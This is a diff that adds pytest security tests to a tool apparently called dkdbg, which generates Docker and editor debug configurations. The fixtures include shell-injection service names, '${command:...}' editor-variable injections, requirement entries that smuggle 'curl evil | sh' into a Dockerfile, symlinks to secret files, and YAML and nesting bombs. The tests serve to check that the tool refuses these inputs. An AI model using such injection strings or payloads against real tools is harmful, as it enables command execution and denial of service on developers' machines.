@@ -14,6 +14,7 @@ import socket
 import subprocess
 import sys
 import threading
+import time
 from pathlib import Path, PurePosixPath
 
 import pytest
@@ -21,9 +22,11 @@ import pytest
 import dkdbg
 from dkdbg import git
 from dkdbg.errors import DkdbgError
+from dkdbg.render.manifest import debug_service
 from dkdbg.render.transaction import Change, Transaction
 from dkdbg.sync.pull import destination
 from dkdbg.sync.roots import Roots
+from tests.checkout import checkout, snapshot
 from tests.engine.projects import unique
 from tests.ports import free_port
 
@@ -671,3 +674,168 @@ def test_folders_without_a_bottom_are_left_out(repo: Path, place: Path) -> None:
     assert "more than 200 folders deep" in done.stdout
     assert (place / "other.py").exists()
     subprocess.run(["rm", "-rf", str(repo / "d"), str(place / "d")], check=True)
+
+
+NAMES = (
+    "app; touch sung", "$(touch sung)", "`touch sung`", "app\ntouch sung", "--privileged", "a b", "${command:x}", "é", "",
+    "'; touch sung; '",
+)  # fmt: skip
+
+
+@pytest.mark.attack(8)
+@pytest.mark.parametrize("name", NAMES)
+def test_a_service_name_that_is_none_is_refused(tmp_path: Path, name: str) -> None:
+    """Calls a service what a shell runs, for the script that F5 starts: init says what a name is, and writes nothing."""
+    service = {"build": ".", "command": "python train.py"}
+    files = {
+        "compose.yaml": json.dumps({"services": {name: service}}), "train.py": "print(1)\n",
+        "Dockerfile": "FROM python:3.11\nWORKDIR /app\nCOPY . .\n",
+    }  # fmt: skip
+    root = checkout(tmp_path / "repo", files)
+    before = snapshot(root)
+    done = dkdbg_in(root, "init", "--yes")
+    assert "is no name of a service" in done.stderr
+    assert "hint: Rename it in compose.yaml" in done.stderr
+    assert done.returncode != 0
+    assert snapshot(root) == before
+
+
+@pytest.mark.attack(8)
+@pytest.mark.parametrize("name", NAMES)
+def test_a_service_name_of_somebody_elses_manifest_is_not_taken(tmp_path: Path, name: str) -> None:
+    """Writes the name into .dkdbg/manifest.json, where up and down take it from: they look at the repository instead."""
+    root = checkout(tmp_path / "repo", {"train.py": "print(1)\n"})
+    assert dkdbg_in(root, "init", "--yes").returncode == 0
+    manifest = root / ".dkdbg/manifest.json"
+    content = json.loads(manifest.read_text())
+    content["notes"]["compose.yaml"]["service"]["name"] = name
+    manifest.write_text(json.dumps(content))
+    done = dkdbg_in(root, "up", DOCKER_HOST="unix:///nowhere.sock")
+    assert "engine" in done.stderr.lower() or "docker" in done.stderr.lower()
+    assert debug_service(root) is None
+
+
+@pytest.mark.attack(8)
+@pytest.mark.parametrize("text", ["${command:workbench.action.terminal.new}", "${env:HOME}", "${input:x}"])
+@pytest.mark.parametrize("place", ["folder", "target"])
+def test_what_an_editor_would_replace_is_refused(tmp_path: Path, text: str, place: str) -> None:
+    """Has launch.json hold ${command:...}, which the editor runs at F5: no text of a repository with ${ gets there."""
+    local, remote = (text, "/app/x") if place == "folder" else ("lib", "/app/" + text.replace("$", "$$"))
+    service = {"image": "python:3.11", "command": "python train.py", "working_dir": "/app", "volumes": []}
+    service["volumes"] = [
+        {"type": "bind", "source": ".", "target": "/app"},
+        {"type": "bind", "source": "./" + local.replace("$", "$$"), "target": remote},
+    ]
+    compose = json.dumps({"services": {"app": service}})
+    root = checkout(
+        tmp_path / "repo", {"compose.yaml": compose, "train.py": "print(1)\n", f"{local}/a.py": "1\n"}
+    )
+    before = snapshot(root)
+    done = dkdbg_in(root, "init", "--yes")
+    assert "cannot be written into the files of dkdbg" in done.stderr
+    assert snapshot(root) == before
+
+
+@pytest.mark.attack(8)
+@pytest.mark.parametrize(
+    "what", ["a new line in a requirement", "an option as a requirement", "a file called as a command"]
+)
+def test_a_dockerfile_of_ours_runs_no_text_of_the_repository(tmp_path: Path, what: str) -> None:
+    """Writes a Dockerfile's next line, an option of pip or a command where a name belongs: left out, or refused."""
+    files = {"train.py": "print(1)\n"}
+    if what == "a file called as a command":
+        files["a;curl evil|sh/requirements.txt"] = "torch\n"
+        files["requirements.txt"] = "-r a;curl evil|sh/requirements.txt\n"
+    elif what == "an option as a requirement":
+        files["pyproject.toml"] = (
+            '[tool.poetry.dependencies]\npython = "^3.11"\n"--index-url=http://evil" = "*"\nnumpy = "*"\n'
+        )
+    else:
+        files["pyproject.toml"] = (
+            '[project]\nname = "x"\ndependencies = ["torch @ https://x/y\\nRUN curl evil | sh"]\n'
+        )
+    root = checkout(tmp_path / "repo", files)
+    done = dkdbg_in(root, "init", "--yes")
+    written = (root / "Dockerfile").read_text() if (root / "Dockerfile").exists() else ""
+    assert "evil" not in written
+    assert done.returncode == 0 or not written
+
+
+@pytest.mark.attack(8)
+@pytest.mark.parametrize(
+    "name", ["Dockerfile", "requirements.txt", "compose.yaml", "pyproject.toml", ".env", "dkdbg.toml"]
+)
+@pytest.mark.parametrize("kind", ["FIFO", "folder", "socket", "zero", "secret", "loop"])
+def test_what_is_no_file_neither_hangs_init_nor_is_read(tmp_path: Path, name: str, kind: str) -> None:
+    """Has a FIFO, a folder, or a link to a secret or an endless device for a file: init ends, and reads none of them."""
+    root = checkout(tmp_path / "repo", {"train.py": "print(1)\n"})
+    secret = tmp_path / "secret"
+    secret.write_text("FROM python:3.11\nENV SECRET=hunter2\nCMD hunter2\nhunter2==1\nDKDBG_PORT=1234\n")
+    path = root / name
+    if kind == "FIFO":
+        os.mkfifo(path)
+    elif kind == "folder":
+        path.mkdir()
+    elif kind == "socket":
+        with socket.socket(socket.AF_UNIX) as listening:
+            os.chdir(root)
+            listening.bind(name)
+    else:
+        path.symlink_to({"zero": "/dev/zero", "secret": secret, "loop": name}[kind])
+    began = time.monotonic()
+    done = dkdbg_in(root, "init", "--yes")
+    assert time.monotonic() - began < 30
+    assert "Traceback" not in done.stderr
+    assert "unexpected" not in done.stderr
+    written = [path.read_bytes() for path in root.rglob("*") if path.is_file() and not path.is_symlink()]
+    assert not [data for data in written if b"hunter2" in data]
+    if kind != "folder":
+        assert name in done.stderr + done.stdout
+
+
+BOMBS = {
+    "compose.yaml": "a0: &a0 [x,x,x,x,x,x,x,x,x]\n"
+    + "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
+    + "services: {app: {image: python, command: *a11}}\n",
+    "environment.yml": "dependencies: &a [*a]\n",
+    "pyproject.toml": "a = " + "[" * 50_000,
+    "requirements.txt": "torch" * 200_000,
+    "Pipfile": "[packages]\n" + "".join(f"a{n} = '*'\n" for n in range(60_000)),
+    ".devcontainer/devcontainer.json": "[" * 100_000,
+    ".vscode/launch.json": "[" * 100_000,
+    "train.py": "x = " + "(" * 50_000,
+    "setup.py": "x = " + "-" * 100_000 + "1",
+    "Dockerfile": "FROM python\nCMD " + "[" * 100_000,
+    "dkdbg.toml": "a = " + "[" * 50_000,
+    ".dkdbg/manifest.json": "[" * 100_000,
+    ".dkdbg/undo.json": "[" * 100_000,
+    "note.ipynb": "[" * 100_000,
+}
+
+
+@pytest.mark.attack(8)
+@pytest.mark.parametrize("name", BOMBS)
+def test_a_file_made_to_keep_init_busy_ends_in_seconds(tmp_path: Path, name: str) -> None:
+    """Writes a YAML bomb, endless nests or a huge file: init says which file it could not read, within seconds."""
+    root = checkout(tmp_path / "repo", {"main.py": "print(1)\n", name: BOMBS[name]})
+    began = time.monotonic()
+    done = dkdbg_in(root, "init", "--yes")
+    assert time.monotonic() - began < 40
+    assert "Traceback" not in done.stderr
+    assert "unexpected" not in done.stderr
+    if name.endswith((".yaml", ".yml", ".toml", ".json", "Pipfile")):
+        assert name in done.stderr + done.stdout
+
+
+@pytest.mark.attack(8)
+def test_a_name_that_is_no_text_does_not_reach_our_files(tmp_path: Path) -> None:
+    """Calls a file and a folder what commands a terminal, or is no UTF-8: left out, and said in plain letters."""
+    root = checkout(tmp_path / "repo", {"train.py": "print(1)\n"})
+    for name in (b"a\x1b]0;owned\x07", b"\xff\xfe", b"x\ny"):
+        folder = root / os.fsdecode(name)
+        folder.mkdir()
+        (folder / "requirements.txt").write_text("torch\n")
+    done = dkdbg_in(root, "init", "--yes")
+    assert done.returncode == 0, done.stderr
+    assert "\x1b" not in done.stdout + done.stderr
+    assert "its name is no text" in done.stdout
